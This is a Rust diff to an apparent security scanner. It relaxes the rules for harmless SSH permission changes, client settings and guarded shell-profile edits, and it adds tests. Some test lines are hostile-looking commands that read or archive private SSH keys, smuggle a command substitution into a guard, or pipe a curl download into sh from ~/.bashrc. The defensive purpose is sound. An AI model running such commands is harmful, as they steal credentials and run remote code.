@@ -83,6 +83,9 @@ pub(crate) fn only_known_installers(line: &str) -> bool {
 /// (`tar`, `cp`, `cat`), and the line weighs as before.
 pub(crate) fn only_public_keys(line: &str) -> bool {
     let lower = line.to_ascii_lowercase();
+    if only_touches_ssh_files(&lower) {
+        return true;
+    }
     let bytes = lower.as_bytes();
     let mut seen = false;
     // Key files by name: `id_rsa`, `id_ed25519`... (with or without a directory).
@@ -124,13 +127,55 @@ pub(crate) fn only_public_keys(line: &str) -> bool {
             let verb = command.split_whitespace().next().unwrap_or("");
             if !matches!(
                 verb,
-                "ls" | "mkdir" | "cd" | "test" | "stat" | "chmod" | "["
+                "ls" | "mkdir" | "cd" | "test" | "stat" | "chmod" | "chown" | "install" | "["
             ) {
                 return false;
             }
-        } else if !name.ends_with(".pub") && name != "known_hosts" {
+        } else if !name.ends_with(".pub")
+            && !matches!(name, "known_hosts" | "authorized_keys" | "authorized_keys2")
+        {
             return false;
         }
+    }
+    seen
+}
+
+/// Whether every command on `line` that names an SSH path only sets its permissions or
+/// owner, creates it, or names it as a client setting (`IdentityFile ~/.ssh/id_ed25519`):
+/// nothing is read out of it.
+///
+/// **Threat.** Key set-up and user administration `chmod 600` the key and `chown` the
+/// directory; reading those lines as key theft flags every such guide. **Guarantee.** Each
+/// segment of the line (split at `;`, `&`, `|` and backticks) that names `.ssh` or a key file
+/// must start (after `sudo`) with `chmod`, `chown`, `chgrp`, `mkdir`, `install -d`, `test`,
+/// `stat` or an SSH client directive; one `cat`, `cp`, `tar`, redirection or any other verb,
+/// and the line weighs as before.
+fn only_touches_ssh_files(lower: &str) -> bool {
+    let mut seen = false;
+    for segment in lower.split([';', '&', '|', '`']) {
+        if !(segment.contains(".ssh") || segment.contains("id_")) {
+            continue;
+        }
+        if segment.contains('>') || segment.contains('<') || segment.contains("$(") {
+            return false;
+        }
+        let mut words = segment.split_whitespace();
+        let mut verb = words.next().unwrap_or("");
+        if verb == "sudo" {
+            verb = words.next().unwrap_or("");
+        }
+        let ok = match verb {
+            "chmod" | "chown" | "chgrp" | "mkdir" | "test" | "stat" => true,
+            "install" => words.next() == Some("-d"),
+            "identityfile" | "certificatefile" | "userknownhostsfile" | "identityagent" => {
+                words.count() == 1
+            }
+            _ => false,
+        };
+        if !ok {
+            return false;
+        }
+        seen = true;
     }
     seen
 }
@@ -174,6 +219,17 @@ pub(crate) fn only_env_setup(line: &str) -> bool {
         return false;
     };
     let before = lower[..at].trim();
+    // A guard that only checks the file already holds the line (`grep -q 'x init' ~/.zshrc
+    // || echo …`) runs nothing.
+    let before = match before.rsplit_once("||") {
+        Some((guard, append))
+            if guard.trim_start().starts_with("grep -q")
+                && !guard.contains(['|', ';', '`', '$', '>', '<']) =>
+        {
+            append.trim()
+        }
+        _ => before,
+    };
     let Some(content) = before
         .strip_prefix("echo ")
         .or_else(|| before.strip_prefix("printf "))
@@ -377,6 +433,27 @@ mod tests {
     use super::*;
 
     #[test]
+    fn permissions_and_client_settings_read_no_key() {
+        for harmless in [
+            "Permissions: `chmod 700 ~/.ssh && chmod 600 ~/.ssh/id_ed25519 ~/.ssh/config`.",
+            "sudo install -d -m 700 -o jdoe -g jdoe /home/jdoe/.ssh",
+            "sudo chown jdoe:jdoe /home/jdoe/.ssh/authorized_keys",
+            "    IdentityFile ~/.ssh/id_ed25519",
+            "cat ~/.ssh/authorized_keys; sudo cat /root/.ssh/authorized_keys",
+        ] {
+            assert!(only_public_keys(harmless), "{harmless}");
+        }
+        for read in [
+            "chmod 600 ~/.ssh/id_rsa && cat ~/.ssh/id_rsa",
+            "sudo install -m 600 ~/.ssh/id_rsa /tmp/k",
+            "chmod 600 ~/.ssh/id_rsa > /dev/null; tar czf k.tgz ~/.ssh",
+            "IdentityFile ~/.ssh/id_ed25519 ~/.ssh/id_rsa",
+        ] {
+            assert!(!only_public_keys(read), "{read}");
+        }
+    }
+
+    #[test]
     fn public_keys_only() {
         assert!(only_public_keys("cat ~/.ssh/id_ed25519.pub"));
         assert!(only_public_keys("Check for a key: `ls ~/.ssh`."));
@@ -449,6 +526,13 @@ mod tests {
             "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc"
         ));
         assert!(only_env_setup("echo 'source ~/.cargo/env' >> ~/.zshrc"));
+        assert!(only_env_setup(
+            "grep -q 'x init zsh' ~/.zshrc || echo 'eval \"$(x init zsh)\"' >> ~/.zshrc"
+        ));
+        // A guard that runs something itself is no guard.
+        assert!(!only_env_setup(
+            "grep -q x ~/.zshrc $(~/.x/p) || echo 'export A=1' >> ~/.zshrc"
+        ));
         // A download, a decoded payload, a background job or any other command: not softened.
         assert!(!only_env_setup(
             "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc"
